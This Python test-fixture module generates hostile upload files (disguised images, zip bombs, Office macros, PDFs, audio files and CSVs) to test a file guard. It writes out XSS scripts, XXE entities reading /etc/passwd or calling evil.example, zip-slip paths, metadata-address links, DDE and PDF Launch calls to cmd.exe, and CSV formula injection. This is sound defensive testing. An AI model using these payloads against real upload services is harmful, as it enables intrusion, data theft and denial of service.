"""Files made to hurt: each with what the guard must say, or what must be gone.

Everything is made here, so that nothing harmful is kept in the repository.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from PIL import Image, PngImagePlugin

from tests.factories import files as make

MARK = b"zanthe-was-here"
SCRIPT = b"<script>alert('" + MARK + b"')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + MARK + b"</svg>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
GPS = 0x8825
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
    b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;">]>'
    b"<x>&c;</x>"
)
FETCHES = b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
PARAMETER = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><x/>'
QUADRATIC = (
    b'<!DOCTYPE x [<!ENTITY a "' + b"a" * 9000 + b'">]><x>' + b"&a;" * 90 + b"</x>"
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@dataclass(frozen=True)
class Hostile:
    """A file by the name it comes under. `code` empty: let in, with `gone` gone."""

    what: str
    name: str
    data: bytes
    code: str = ""
    gone: bytes = MARK


def corpus() -> list[Hostile]:
    """Every one of them."""
    makers = (
        *(_names, _not_pictures, _pictures, _too_many_dots, _archives, _xml),
        *(_office, _pdfs, _sounds, _texts),
    )
    return [each for made in makers for each in made()]


def _names() -> Iterator[Hostile]:
    good = make.picture()
    names = [
        *("page.html", "page.htm", "drawing.svg", "run.exe", "photo.jpg.exe", "a.php"),
        *("x.js", "x.bat", "macro.docm", "macro.xlsm", "pack.zip", "pack.jar", "a.gif"),
        *("no ending", ".htaccess", "a.png.", "photo\u202egpj.exe", "a.png\x00.html"),
        *("old.doc", "old.xls", "film.mp4", "a.PHP", "a.xhtml", "a.swf", "a.lnk"),
    ]
    for name in names:
        if name != "a.png.":
            yield Hostile(f"named {name!r}", name, good, "ending")


def _not_pictures() -> Iterator[Hostile]:
    for ending in ("png", "jpg", "webp"):
        for what, data in (
            ("SVG", SVG),
            ("HTML", HTML),
            ("a Windows program", b"MZ" + bytes(90)),
            ("PHP", b"<?php system('id');"),
            ("a GIF that is a script", b"GIF89a/*" + bytes(9) + b"*/=1;" + SCRIPT),
        ):
            yield Hostile(
                f"{what} as {ending}", f"a.{ending}", data, "not-what-it-says"
            )
        yield Hostile(f"empty {ending}", f"a.{ending}", b"", "empty")
    jpg, png = make.picture("JPEG"), make.picture()
    yield Hostile("PNG as JPEG", "a.jpg", png, "not-what-it-says")
    yield Hostile("half a JPEG", "a.jpg", jpg[: len(jpg) // 2], "damaged")
    yield Hostile("half a PNG", "a.png", png[: len(png) - 30], "damaged")
    yield Hostile("two bytes", "a.png", b"\x89P", "not-what-it-says")


def _pictures() -> Iterator[Hostile]:
    where = Image.Exif()
    where.get_ifd(GPS).update({1: "N", 2: (52.0, 30.0, 1.5), 29: MARK.decode()})
    where[0x010F] = MARK.decode()
    jpg, png = make.picture("JPEG"), make.picture()
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", MARK.decode())
    notes.add_itxt("XML:com.adobe.xmp", MARK.decode())
    archive = make.packed(("a.txt", MARK), how=zipfile.ZIP_STORED)
    yield Hostile("JPEG with GPS", "a.jpg", make.picture("JPEG", exif=where))
    yield Hostile("PNG with GPS", "a.png", make.picture(exif=where))
    yield Hostile("WebP with GPS", "a.webp", make.picture("WEBP", exif=where))
    yield Hostile("JPEG comment", "a.jpg", make.picture("JPEG", comment=MARK))
    yield Hostile("PNG notes", "a.png", make.picture(pnginfo=notes))
    yield Hostile("WebP XMP", "a.webp", make.picture("WEBP", xmp=MARK))
    yield Hostile(
        "profile", "a.jpg", make.picture("JPEG", icc_profile=bytes(128) + MARK)
    )
    yield Hostile("JPEG, then a ZIP", "a.jpg", jpg + archive)
    yield Hostile("PNG, then HTML", "a.png", png + HTML)
    yield Hostile("JPEG, then PHP", "a.jpg", jpg + b"<?php " + MARK)
    broken = b"Exif\x00\x00MM\x00*" + b"\xff" * 40 + MARK
    yield Hostile("broken Exif", "a.jpg", make.picture("JPEG", exif=broken))


def _png_of(width: int, height: int) -> bytes:
    """A PNG that says it is so large, with little in it."""

    def chunk(kind: bytes, inside: bytes) -> bytes:
        check = zlib.crc32(kind + inside)
        return struct.pack(">I", len(inside)) + kind + inside + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    dots = chunk(b"IDAT", zlib.compress(bytes(900)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + dots + chunk(b"IEND", b"")


def _too_many_dots() -> Iterator[Hostile]:
    for side in (7_000, 9_000, 30_000, 60_000):
        yield Hostile(f"PNG of {side}", "a.png", _png_of(side, side), "too-many-dots")
    yield Hostile("a very long PNG", "a.png", _png_of(2_000_000, 200), "too-many-dots")
    large = make.picture("JPEG")
    at = large.index(b"\xff\xc0") + 5
    claims = large[:at] + struct.pack(">HH", 20_000, 20_000) + large[at + 4 :]
    yield Hostile("JPEG of 400 million dots", "a.jpg", claims, "too-many-dots")
    sneaky = make.picture("JPEG", progressive=True)
    at = sneaky.index(b"\xff\xc2") + 5
    claims = sneaky[:at] + struct.pack(">HH", 6_000, 6_000) + sneaky[at + 4 :]
    yield Hostile("JPEG in passes, too large", "a.jpg", claims, "too-many-dots")


def _entry(name: str, **about: int) -> bytes:
    """A Word file with one more entry, described in an unusual way."""
    file = io.BytesIO(make.docx())
    with zipfile.ZipFile(file, "a") as archive:
        entry = zipfile.ZipInfo(name)
        for key, value in about.items():
            setattr(entry, key, value)
        archive.writestr(entry, b"target")
    return file.getvalue()


def _locked() -> bytes:
    """A Word file whose parts say that they need a password."""
    data = bytearray(make.docx())
    for mark, flags in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + flags] |= 1
            at = data.find(mark, at + 1)
    return bytes(data)


def _archives() -> Iterator[Hostile]:
    nulls = bytes(8_000_000)
    many = [(f"word/{number}.xml", b"<x/>") for number in range(2_001)]
    inside = make.packed(("a.txt", MARK))
    yield Hostile(
        "one part bombs", "a.docx", make.docx(("word/b", nulls)), "unpacks-too-large"
    )
    yield Hostile(
        "Excel bombs", "a.xlsx", make.xlsx(("xl/b", nulls)), "unpacks-too-large"
    )
    yield Hostile("too many parts", "a.docx", make.docx(*many), "unpacks-too-large")
    yield Hostile(
        "another inside", "a.docx", make.docx(("word/a.zip", inside)), "holds-a-file"
    )
    yield Hostile(
        "renamed inside", "a.docx", make.docx(("word/a.xyz", inside)), "holds-a-file"
    )
    yield Hostile(
        "program inside", "a.docx", make.docx(("word/a", b"MZ" + MARK)), "holds-a-file"
    )
    for name in (
        "../../evil.xml",
        "/etc/cron",
        "word\\..\\evil",
        "C:evil",
        "a/../../b",
    ):
        yield Hostile(f"leads to {name}", "a.docx", _entry(name), "can-act")
    yield from _spoilt_archives()


def _spoilt_archives() -> Iterator[Hostile]:
    """Archives that are locked, damaged, or not what they say."""
    word, inside = make.docx(), make.packed(("a.txt", MARK))
    linked = _entry("word/l", external_attr=0o120777 << 16, create_system=3)
    yield Hostile("a link to elsewhere", "a.docx", linked, "can-act")
    yield Hostile("locked", "a.docx", _locked(), "locked")
    squeezed = make.packed(("word/document.xml", b"<x/>"), how=zipfile.ZIP_LZMA)
    yield Hostile("packed otherwise", "a.docx", squeezed, "damaged")
    yield Hostile("half", "a.docx", word[: len(word) // 2], "damaged")
    yield Hostile("a plain ZIP", "a.docx", inside, "not-what-it-says")
    yield Hostile("Word as Excel", "a.xlsx", word, "not-what-it-says")
    yield Hostile("GIF, then Word", "a.docx", b"GIF89a" + word, "not-what-it-says")
    yield Hostile("no name", "a.docx", _nameless(), "damaged")
    spoilt = word.replace(b"Hello", b"Jello")
    yield Hostile("spoilt list", "a.docx", spoilt[:-30] + bytes(8), "damaged")


def _nameless() -> bytes:
    """The list of contents takes the name of its last part for a comment."""
    data = bytearray(make.docx(("word/qqqq", MARK)))
    last = data.rindex(b"PK\x01\x02")
    name, comment = slice(last + 28, last + 30), slice(last + 32, last + 34)
    data[comment], data[name] = data[name], bytes(2)
    return bytes(data)


def _xml() -> Iterator[Hostile]:
    for what, attack in (
        ("billion laughs", LAUGHS),
        ("fetches a file", FETCHES),
        ("fetches by parameter", PARAMETER),
        ("quadratic", QUADRATIC),
    ):
        yield Hostile(f"XML: {what}", "a.docx", make.docx(heart=attack), "can-act")
        yield Hostile(
            f"XML in Excel: {what}",
            "a.xlsx",
            make.xlsx(("xl/s.xml", attack)),
            "can-act",
        )
    yield Hostile("XML cut off", "a.docx", make.docx(heart=b"<w><a>"), "damaged")


def _link(kind: str) -> bytes:
    return (
        f'<R><Relationship Id="r1" Type="{OFFICE}/{kind}" TargetMode="External" '
        'Target="http://169.254.169.254/latest"/></R>'
    ).encode()


def _office() -> Iterator[Hostile]:
    for part in ("word/vbaProject.bin", "word/activeX/activeX1.xml", "customUI/ui.xml"):
        yield Hostile(f"runs {part}", "a.docx", make.docx((part, MARK)), "can-act")
    sheet = ("xl/macrosheets/s.xml", b"<x/>")
    yield Hostile("old macros", "a.xlsx", make.xlsx(sheet), "can-act")
    kept = ("word/embeddings/oleObject1.bin", MARK)
    yield Hostile("embedded", "a.docx", make.docx(kept), "can-act")
    for kind in ("attachedTemplate", "image", "frame", "oleObject"):
        part = ("word/_rels/document.xml.rels", _link(kind))
        yield Hostile(f"fetches {kind}", "a.docx", make.docx(part), "reaches-out")
    calls = b"<w>DDEAUTO c:\\\\windows\\\\cmd.exe</w>"
    yield Hostile("calls a program", "a.docx", make.docx(heart=calls), "can-act")
    wrote = ("docProps/core.xml", b"<cp><creator>" + MARK + b"</creator></cp>")
    yield Hostile("says who wrote it", "a.docx", make.docx(wrote))
    where = Image.Exif()
    where[0x010F] = MARK.decode()
    photo = ("word/media/image1.jpg", make.picture("JPEG", exif=where))
    yield Hostile("photo with a place", "a.docx", make.docx(photo))


def _object_stream(inside: bytes, more: bytes = b"") -> bytes:
    packed = zlib.compress(inside)
    about = b"2 0 obj\n<< /Type /ObjStm /Filter /FlateDecode " + more + b">>\n"
    return about + b"stream\n" + packed + b"\nendstream\nendobj\n"


def _pdfs() -> Iterator[Hostile]:
    runs = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    for what, inside, code in (
        ("JavaScript", runs, "can-act"),
        ("JavaScript spelt", b"<< /S /J#61vaScr#69pt >>", "can-act"),
        ("JavaScript packed", _object_stream(runs), "can-act"),
        ("packed oddly", _object_stream(runs, b"/ASCIIHexDecode "), "can-act"),
        ("Launch", b"<< /S /Launch /F (cmd.exe) >>", "can-act"),
        ("a film", b"<< /Subtype /RichMedia >>", "can-act"),
        ("a form", b"<< /XFA 3 0 R >>", "can-act"),
        ("sends", b"<< /S /SubmitForm /F (http://evil.example) >>", "can-act"),
        ("a file inside", b"<< /Type /EmbeddedFile >>", "holds-a-file"),
        ("a password", b"<< /Encrypt 9 0 R >>", "locked"),
        ("a bomb", _object_stream(bytes(53_000_000)), "unpacks-too-large"),
        ("broken packing", _object_stream(b"x").replace(b"\x78\x9c", b"!!"), "damaged"),
    ):
        yield Hostile(f"PDF: {what}", "a.pdf", make.pdf(inside), code)
    good = make.pdf()
    yield Hostile("HTML before PDF", "a.pdf", HTML + good, "not-what-it-says")
    yield Hostile("PDF, then HTML", "a.pdf", good + HTML, "holds-a-file")
    yield Hostile(
        "PDF, then ZIP", "a.pdf", good + make.packed(("a", MARK)), "holds-a-file"
    )
    yield Hostile("half a PDF", "a.pdf", good[:-8], "damaged")
    where = Image.Exif()
    where.get_ifd(GPS).update({1: "N", 29: MARK.decode()})
    photo = make.picture("JPEG", exif=where)
    yield Hostile(
        "PDF of a photo", "a.pdf", make.pdf(b"stream\n" + photo + b"\nendstream")
    )
    about = b"<x:xmpmeta>" + MARK + b"</x:xmpmeta> /Author (" + MARK + b")"
    yield Hostile("PDF says who wrote it", "a.pdf", make.pdf(about))


def _sounds() -> Iterator[Hostile]:
    for ending in ("mp3", "m4a", "ogg", "wav"):
        yield Hostile(f"HTML as {ending}", f"a.{ending}", HTML, "not-what-it-says")
        yield Hostile(f"empty {ending}", f"a.{ending}", b"", "empty")
    notes = b"ID3\x03\x00\x00\x00\x00\x00" + bytes([len(MARK)]) + MARK
    tail = b"TAG" + MARK + bytes(125 - len(MARK))
    archive = make.packed(("a", MARK))
    yield Hostile("MP3 with notes", "a.mp3", notes + make.mp3() + tail)
    yield Hostile("MP3 of one frame", "a.mp3", make.mp3(1), "not-what-it-says")
    yield Hostile("MP3, then ZIP", "a.mp3", make.mp3() + archive, "holds-a-file")
    yield Hostile("recorded somewhere", "a.m4a", make.m4a(make.box(b"\xa9xyz", MARK)))
    yield Hostile("boxes that lie", "a.m4a", make.m4a()[:-4], "damaged")
    yield Hostile("WAV with notes", "a.wav", make.wav((b"LIST", MARK)))
    yield Hostile("WAV of nothing", "a.wav", b"RIFF\x04\x00\x00\x00WAVE", "damaged")


def _texts() -> Iterator[Hostile]:
    for what, data in (
        ("HTML", HTML),
        ("SVG", SVG),
        ("script", SCRIPT),
        ("PDF", make.pdf()),
    ):
        for ending in ("txt", "csv"):
            yield Hostile(
                f"{what} as {ending}", f"a.{ending}", data, "not-what-it-says"
            )
    yield Hostile("a program as text", "a.txt", b"MZ\x00\x01" + bytes(40), "not-text")
    yield Hostile("only blanks", "a.txt", b" \n\t ", "empty")
    for sign in ("=", "+", "@", "\t=", "-"):
        cell = f"{sign}cmd|'/C calc'!A0"
        yield Hostile(
            f"formula {sign!r}",
            "a.csv",
            f'x,"{cell}"\n'.encode(),
            gone=f'"{cell}'.encode(),
        )
    yield Hostile("endless cell", "a.csv", b'"' + b"a" * 150_000 + b'"', "damaged")
